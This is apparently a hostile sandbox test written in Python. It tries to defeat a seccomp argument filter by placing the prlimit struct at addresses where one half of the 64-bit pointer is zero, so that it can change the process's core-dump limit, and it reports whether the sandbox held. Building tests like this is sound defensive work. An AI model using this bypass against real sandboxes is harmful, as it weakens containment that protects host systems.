# hostile-test
# id: SYS-101
# title: no core file at all, which starts a piped core helper as root of the host
# class: seccomp-bypass
# lang: python
# expect: contained
# severity: critical
# bounds: one limit of its own, no crash
# why: a filter sees 64 bits of a pointer as two words, and an address may be 0 in one of them
import sys
_e = []
def esc(m): _e.append(str(m))
def done(why="refused"):
    sys.stdout.write(("ESCAPED: " + " | ".join(_e)[:1800] if _e else "CONTAINED: " + why) + "\n")
    sys.stdout.flush()
import ctypes, platform, resource
before = resource.getrlimit(resource.RLIMIT_CORE)
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = libc.syscall.restype = ctypes.c_long
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
PRLIMIT = {"x86_64": 302, "aarch64": 261}.get(platform.machine())
for at in (0x700000000, 0x10000000):  # low half 0; high half 0
    if PRLIMIT and libc.mmap(at, 4096, 3, 0x100022, -1, 0) == at:
        ctypes.memmove(at, (ctypes.c_uint64 * 2)(0, before[1] if before[1] >= 0 else 2**64 - 1), 16)
        libc.syscall(ctypes.c_long(PRLIMIT), ctypes.c_long(0), ctypes.c_long(resource.RLIMIT_CORE), ctypes.c_long(at),
                     ctypes.c_long(0))
for way in (lambda: resource.setrlimit(resource.RLIMIT_CORE, (0, before[1])),
            lambda: resource.prlimit(0, resource.RLIMIT_CORE, (0, before[1]))):
    try: way()
    except (OSError, ValueError): pass
after = resource.getrlimit(resource.RLIMIT_CORE)
if before[0] == 0: esc("there are no core files from the start")
elif after[0] == 0: esc("RLIMIT_CORE %s became %s" % (before, after))
done("the limit stays %s" % (after,))
